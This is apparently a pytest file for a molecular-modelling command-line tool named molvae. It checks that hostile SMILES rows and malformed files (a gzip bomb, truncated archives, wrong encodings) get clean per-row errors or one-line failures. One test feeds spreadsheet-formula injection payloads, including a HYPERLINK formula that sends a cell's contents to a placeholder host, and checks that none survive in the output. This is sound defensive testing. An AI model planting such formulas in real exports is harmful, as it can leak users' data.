"""Every command that reads molecules, on hostile rows and bad files: an account of each row, or one line."""

from __future__ import annotations

import csv
import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from molvae.chem import read_molecule
from molvae.cli.main import cli
from molvae.datasets import write_rows
from molvae.datasets.streams import MAX_LINE
from molvae.errors import MoleculeError

Molvae = Callable[..., Result]
HOSTILE: list[dict[str, Any]] = json.loads(
    (Path(__file__).parents[1] / "chem" / "hostile.json").read_text(encoding="utf-8")
)
GIANTS = ["C" * 20_000, "C(" * 4_000 + "C" + ")" * 4_000, "C1CC1" * 100, "C12" * 300, "[" + "1" * 5_000 + "C]"]
TEXTS = [*(row["input"] for row in HOSTILE if isinstance(row["input"], str)), *GIANTS]
LATER = {"ok", "unknown_symbol", "not_representable", "too_many_symbols"}  # what becomes of one that the gate takes


def allowed(text: str) -> set[str]:
    try:
        read_molecule(text)
    except MoleculeError as err:
        return {str(err.code)}
    return LATER


def write(path: Path, texts: list[str]) -> None:
    """Write a file as a stranger would, without the care of molvae's writers."""
    if path.suffix == ".parquet":
        write_rows(path, ({"smiles": text, "name": str(row)} for row, text in enumerate(texts)))
    elif path.suffix == ".smi":
        path.write_bytes("".join(f"{text} {row}\n" for row, text in enumerate(texts)).encode())
    else:
        with path.open("w", newline="", encoding="utf-8") as stream:
            writer = csv.writer(stream, delimiter="\t" if path.suffix == ".tsv" else ",", quoting=csv.QUOTE_ALL)
            writer.writerows([["smiles", "name"], *([text, str(row)] for row, text in enumerate(texts))])


def carried(suffix: str) -> list[str]:
    """Return the texts that a format can carry: an .smi ends a SMILES at the first blank."""
    if suffix == ".smi":
        texts = [text for text in TEXTS if text and not any(c.isspace() for c in text)]
        return ["CCO", *texts]  # a byte-order mark is none where it is not the first character of a file
    return [text for text in TEXTS if "\0" not in text or suffix == ".parquet"]


@pytest.mark.parametrize("suffix", [".smi", ".csv", ".tsv", ".parquet"])
def test_every_hostile_row_of_a_file_keeps_its_place_and_its_reason(
    molvae: Molvae, model_folder: Path, tmp_path: Path, suffix: str
) -> None:
    texts, source = carried(suffix), tmp_path / f"hostile{suffix}"
    write(source, texts)
    molvae("encode", source, "-o", tmp_path / "out.csv", "-m", model_folder, "--threads", "1", "--workers", "1")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    for row, text in enumerate(texts):
        assert rows[row]["name"] == (str(row) if len(text) <= MAX_LINE or suffix == ".parquet" else "")
    wrong = [
        (text[:60], row["status"]) for text, row in zip(texts, rows, strict=True) if row["status"] not in allowed(text)
    ]
    assert wrong == []


def test_preparing_refuses_what_the_gate_refuses(molvae: Molvae, tmp_path: Path) -> None:
    texts = carried(".csv")
    write(tmp_path / "hostile.csv", texts)
    refused = tmp_path / "refused.csv"
    molvae(
        "data", "prepare", tmp_path / "hostile.csv", "-o", tmp_path / "shard", "--rejected", refused, "--workers", "1"
    )
    with refused.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    codes = {int(row["name"]): row["code"] for row in rows if row["name"]}  # a line too long has lost its name
    assert {row["code"] for row in rows if not row["name"]} == {"too_long"}
    for row, text in enumerate(texts):
        assert len(text) > MAX_LINE or codes.get(row, "ok") in allowed(text), text[:60]


FORMULA = '=HYPERLINK("http://x.example?"&A1)'


@pytest.mark.parametrize("command", [["score", "--objective", "qed"], ["check"], ["reconstruct"], ["encode"]])
def test_a_formula_in_the_place_of_a_molecule_is_none_in_what_is_written(
    molvae: Molvae, model_folder: Path, tmp_path: Path, command: list[str]
) -> None:
    source, out = tmp_path / "formulas.csv", tmp_path / "out.csv"
    write(source, ["CCO", FORMULA, "@SUM(A1)", "+1+cmd", "\t=1"])
    name, *options = command
    model = [] if name == "score" else ["-m", str(model_folder)]
    CliRunner().invoke(cli, [name, str(source), *options, *model, "-o", str(out)])
    with out.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert len(cells) > 5
    assert [cell for cell in cells if cell[:1] in tuple("=+@\t") or cell.startswith("-1+")] == []


COMMANDS: dict[str, list[str]] = {
    "encode": ["encode", "{file}", "-o", "{out}.npz", "-m", "{model}"],
    "reconstruct": ["reconstruct", "{file}", "-m", "{model}"],
    "score": ["score", "{file}", "--objective", "qed"],
    "check": ["check", "{file}", "-m", "{model}"],
    "prepare": ["data", "prepare", "{file}", "-o", "{out}"],
    "train": ["train", "{file}", "-o", "{out}", "--steps", "1", "--batch-size", "2"],
    "optimize": ["optimize", "--objective", "qed", "--strategy", "graph-ga", "--budget", "3", "--start", "{file}",
                 "--library", "{file}", "-o", "{out}"],
    "property": ["property", "fit", "{file}", "--target", "y", "-o", "{out}", "-m", "{model}"],
}  # fmt: skip
BAD_FILES: dict[str, bytes | None] = {
    "missing.csv": None,
    "empty.csv": b"",
    "utf16.csv": "smiles\nCCO\n".encode("utf-16"),
    "latin1.csv": "smiles,name\nCCO,é\n".encode("latin-1"),
    "quote.csv": b'smiles\nCCO\n"CC\n' + b"C\n" * 9_000,
    "semicolons.csv": b"smiles;y\nCCO;1\n",
    "nocolumn.csv": b"a,b\n1,2\n",
    "twice.csv": b"smiles,smiles\nC,C\n",
    "cut.csv.gz": gzip.compress(b"smiles\n" + b"CCO\n" * 5_000)[:-20],
    "bomb.csv.gz": gzip.compress(b"C" * 30_000_000),
    "zip.csv": b"PK\x03\x04" + bytes(40),
    "noise.parquet": bytes(range(256)) * 4,
    "refused.smi": b"C1CC\nxyz\n*\n",
    "image.png": b"\x89PNG\r\n\x1a\n",
}


def run(name: str, source: Path, out: Path, model: Path) -> Result:
    words = {"file": str(source), "out": str(out), "model": str(model)}
    return CliRunner().invoke(cli, [part.format(**words) for part in COMMANDS[name]])


@pytest.mark.parametrize("command", COMMANDS)
def test_a_bad_file_is_one_line_that_says_what_is_wrong_with_it(
    command: str, model_folder: Path, tmp_path: Path
) -> None:
    for number, (name, content) in enumerate(BAD_FILES.items()):
        source = tmp_path / name
        if content is not None:
            source.write_bytes(content)
        result = run(command, source, tmp_path / f"out{number}", model_folder)
        told = f"{command} {name}: {result.exit_code} {result.output[-300:]!r}"
        assert result.exit_code == (0 if (command, name) == ("check", "refused.smi") else 1), told  # checks them
        assert result.exception is None or isinstance(result.exception, SystemExit), told
        assert "unexpected" not in result.stderr, told
        assert "Traceback" not in result.output, told
        if name != "refused.smi":
            last = result.stderr.strip().splitlines()[-1]
            assert last.startswith("molvae: error: "), told
